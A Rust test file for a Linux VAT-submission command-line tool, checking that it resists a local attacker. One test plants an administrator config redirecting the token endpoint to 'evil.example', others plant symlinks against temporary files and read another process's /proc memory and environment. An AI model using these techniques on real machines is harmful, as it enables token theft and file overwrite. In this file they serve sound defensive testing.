//! What the program does not trust, tried as somebody would who has an account on the same machine.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![cfg(target_os = "linux")]

use std::{
    fs,
    io::{BufRead as _, BufReader},
    os::unix::fs::{MetadataExt as _, PermissionsExt as _, chown},
    path::Path,
    process::{Command, Stdio},
};

fn program(folder: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_momsbud-cli"));
    command
        .env("MOMSBUD_SYSTEM_DIR", folder.join("system"))
        .env("MOMSBUD_DATA_DIR", folder.join("data"))
        .env("MOMSBUD_ARCHIVE_DIR", folder.join("archive"))
        .env_remove("DBUS_SESSION_BUS_ADDRESS")
        .env_remove("MOMSBUD_PRACTICE");
    command
}

fn mode(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// What somebody lays into the administrator's folder to have the tokens sent to himself.
#[test]
fn an_administrators_file_that_another_user_could_have_written_is_refused_and_said() {
    let folder = tempfile::tempdir().unwrap();
    let system = folder.path().join("system");
    fs::create_dir(&system).unwrap();
    let file = system.join("environments.json");
    fs::write(&file, r#"{"production": {"integration": {"endpoints": {"token": "https://evil.example/t"}}}}"#).unwrap();
    let list = || {
        let output =
            program(folder.path()).args(["integration", "list", "--environment", "production"]).output().unwrap();
        (output.status.code(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    mode(&system, 0o755);
    mode(&file, 0o644);
    assert_eq!(list().0, Some(0), "{}", list().1);
    mode(&file, 0o666);
    let (status, said) = list();
    assert!(status == Some(2) && said.contains("kan skrives av andre enn administratorer"), "{status:?} {said}");
    mode(&file, 0o644);
    mode(&system, 0o777);
    assert_eq!(list().0, Some(2), "{}", list().1);
    mode(&system, 0o755);
    if fs::metadata("/proc/self").unwrap().uid() == 0 {
        for path in [&file, &system] {
            chown(path, Some(65534), None).unwrap();
            let (status, said) = list();
            assert!(status == Some(2) && said.contains("ikke administrerer denne maskinen"), "{status:?} {said}");
            chown(path, Some(0), None).unwrap();
        }
    }
    assert_eq!(list().0, Some(0));
}

#[test]
fn a_program_that_holds_tokens_leaves_no_core_file() {
    let folder = tempfile::tempdir().unwrap();
    let mut practice = program(folder.path()).arg("practice").stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(practice.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let limits = fs::read_to_string(format!("/proc/{}/limits", practice.id())).unwrap();
    practice.kill().unwrap();
    practice.wait().unwrap();
    let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap();
    assert!(!core.contains("unlimited"), "{core}");
    let numbers: Vec<u64> = core.split_whitespace().filter_map(|word| word.parse().ok()).collect();
    assert!(numbers.iter().all(|number| *number <= 1), "{core}");
}

/// Another program of the same user looks into the memory, the environment and the files of one that holds tokens.
#[test]
fn another_program_of_the_same_user_looks_into_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let root = fs::metadata("/proc/self").unwrap().uid() == 0;
    // Root may look into everything: there another user stands in for the person.
    let by = |program: &str| {
        let mut command = Command::new(if root { "setpriv" } else { program });
        if root {
            command.args(["--reuid=65534", "--regid=65534", "--clear-groups", program]);
        }
        command
    };
    let mut practice =
        by(env!("CARGO_BIN_EXE_momsbud-cli")).arg("practice").current_dir("/").stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(practice.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let looked = |file: &str| by("head").args(["-c1", &format!("/proc/{}/{file}", practice.id())]).output().unwrap();
    let (readable, refused) = (looked("status"), ["environ", "mem", "maps", "auxv"].map(looked));
    practice.kill().unwrap();
    practice.wait().unwrap();
    assert!(line.starts_with('{') && readable.status.success(), "{line} {readable:?}");
    for refused in refused {
        let said = String::from_utf8_lossy(&refused.stderr);
        assert!(!refused.status.success() && said.contains("Permission denied"), "{said}");
    }
    drop(folder);
}

/// What somebody who can write to the archive plants there is not written through, taken along or followed.
#[test]
fn links_that_somebody_plants_in_the_archive_lead_nowhere() {
    use std::os::unix::fs::symlink;
    let folder = tempfile::tempdir().unwrap();
    let (archive, hers) = (folder.path().join("archive"), folder.path().join("hers"));
    for place in [&archive, &hers, &folder.path().join("system"), &folder.path().join("data")] {
        fs::create_dir(place).unwrap();
    }
    let precious = hers.join("precious");
    fs::write(&precious, "hers").unwrap();
    fs::write(hers.join("manifest.json"), "{}").unwrap();
    // What the program tried a folder out with had the number of its process in its name.
    let last: u32 = fs::read_to_string("/proc/loadavg").unwrap().split_whitespace().last().unwrap().parse().unwrap();
    for process in last..last + 300 {
        symlink(&precious, archive.join(format!(".momsbud-doctor-{process}"))).unwrap();
    }
    program(folder.path()).arg("doctor").output().unwrap();
    assert_eq!(fs::read_to_string(&precious).unwrap(), "hers");
    for process in last..last + 300 {
        fs::remove_file(archive.join(format!(".momsbud-doctor-{process}"))).unwrap();
    }
    symlink(&hers, archive.join("Øving")).unwrap();
    symlink(&archive, archive.join("loop")).unwrap();
    let verified = program(folder.path()).args(["--lang", "en", "archive", "verify"]).output().unwrap();
    let said = String::from_utf8_lossy(&verified.stdout);
    assert_eq!(verified.status.code(), Some(1), "{said}");
    assert!(said.contains("Øving") && said.contains("loop") && !said.contains("manifest"), "{said}");
}

/// A proxy that somebody has set for the whole machine hears nothing of practice.
#[test]
fn practice_goes_through_no_proxy() {
    let folder = tempfile::tempdir().unwrap();
    let mut practice = program(folder.path()).arg("practice").stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(practice.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let addresses: serde_json::Value = serde_json::from_str(&line).unwrap();
    let proxy = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    proxy.set_nonblocking(true).unwrap();
    let there = format!("http://{}", proxy.local_addr().unwrap());
    let checked = program(folder.path())
        .args(["--lang", "en", "integration", "check"])
        .env("MOMSBUD_PRACTICE", addresses["control"].as_str().unwrap())
        .envs(["HTTP_PROXY", "http_proxy", "ALL_PROXY", "HTTPS_PROXY"].map(|name| (name, &there)))
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .output()
        .unwrap();
    practice.kill().unwrap();
    practice.wait().unwrap();
    assert!(proxy.accept().is_err(), "the proxy was asked");
    assert_eq!(checked.status.code(), Some(0), "{}", String::from_utf8_lossy(&checked.stderr));
}

/// An authorize that breaks off: the command ends, at once and with a reason, instead of waiting five minutes for nobody.
#[test]
fn a_sign_in_by_hint_ends_when_authorize_breaks() {
    let folder = tempfile::tempdir().unwrap();
    let mut practice = program(folder.path()).arg("practice").stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(practice.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let addresses: serde_json::Value = serde_json::from_str(&line).unwrap();
    let control = addresses["control"].as_str().unwrap().to_owned();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let sample = folder.path().join("a.xml");
    fs::write(&sample, vat_return::samples::by_id("fjordlys").unwrap().bytes).unwrap();
    for fault in [
        serde_json::json!([{"call": "authorize", "times": 9, "fault": {"kind": "dropBefore"}}]),
        serde_json::json!([{"call": "authorize", "times": 9, "fault": {"kind": "status", "status": 500}}]),
    ] {
        runtime.block_on(async {
            let http = reqwest::Client::builder().no_proxy().build().unwrap();
            http.put(format!("{control}/faults")).json(&fault).send().await.unwrap().error_for_status().unwrap();
        });
        let began = std::time::Instant::now();
        let output = program(folder.path())
            .args(["submit", "--yes", "--login-hint", "testid:14838411585_idporten-loa-high"])
            .arg(&sample)
            .env("MOMSBUD_PRACTICE", &control)
            .output()
            .unwrap();
        assert!(began.elapsed() < std::time::Duration::from_secs(60), "it waits for nobody");
        assert_ne!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    }
    practice.kill().unwrap();
    practice.wait().unwrap();
}

/// A desktop's portal that only remembers what it was to open.
struct Portal(std::sync::mpsc::Sender<String>);

#[zbus::interface(name = "org.freedesktop.portal.OpenURI")]
impl Portal {
    #[zbus(name = "OpenURI")]
    fn open_uri(
        &self,
        _parent: &str,
        uri: &str,
        _options: std::collections::HashMap<String, zbus::zvariant::OwnedValue>,
    ) -> zbus::zvariant::OwnedObjectPath {
        let _ = self.0.send(uri.to_owned());
        zbus::zvariant::ObjectPath::from_static_str_unchecked("/org/freedesktop/portal/desktop/request/1").into()
    }
}

/// Another user reads the list of processes while somebody signs in: the link is not in it.
#[test]
fn a_sign_ins_link_stands_in_nobodys_list_of_processes() {
    let folder = tempfile::tempdir().unwrap();
    let bus =
        Command::new("dbus-daemon").args(["--session", "--nofork", "--print-address"]).stdout(Stdio::piped()).spawn();
    // Where there is no bus there is no portal either.
    let Ok(mut bus) = bus else { return };
    let mut address = String::new();
    BufReader::new(bus.stdout.take().unwrap()).read_line(&mut address).unwrap();
    let (sender, opened) = std::sync::mpsc::channel();
    let _serving = zbus::blocking::connection::Builder::address(address.trim())
        .unwrap()
        .serve_at("/org/freedesktop/portal/desktop", Portal(sender))
        .unwrap()
        .name("org.freedesktop.portal.Desktop")
        .unwrap()
        .build()
        .unwrap();
    let mut practice = program(folder.path()).arg("practice").stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(practice.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let addresses: serde_json::Value = serde_json::from_str(&line).unwrap();
    let login = program(folder.path())
        .args(["login", "--json"])
        .env("MOMSBUD_PRACTICE", addresses["control"].as_str().unwrap())
        .env("DBUS_SESSION_BUS_ADDRESS", address.trim())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let link = opened.recv_timeout(std::time::Duration::from_secs(60)).expect("the portal is asked");
    let state = link.split("state=").nth(1).unwrap().split('&').next().unwrap().to_owned();
    let seen = fs::read_dir("/proc").unwrap().filter_map(|process| fs::read(process.ok()?.path().join("cmdline")).ok());
    let shown = seen.filter(|line| String::from_utf8_lossy(line).contains(&state)).count();
    assert_eq!(shown, 0, "the link stands in a command line");
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let http = reqwest::Client::builder().no_proxy().build().unwrap();
        let link = format!("{link}&login_hint=testid:14838411585_idporten-loa-high");
        http.get(link).send().await.unwrap();
    });
    let ended = login.wait_with_output().unwrap();
    practice.kill().unwrap();
    practice.wait().unwrap();
    bus.kill().unwrap();
    bus.wait().unwrap();
    assert_eq!(ended.status.code(), Some(0), "{}", String::from_utf8_lossy(&ended.stderr));
}
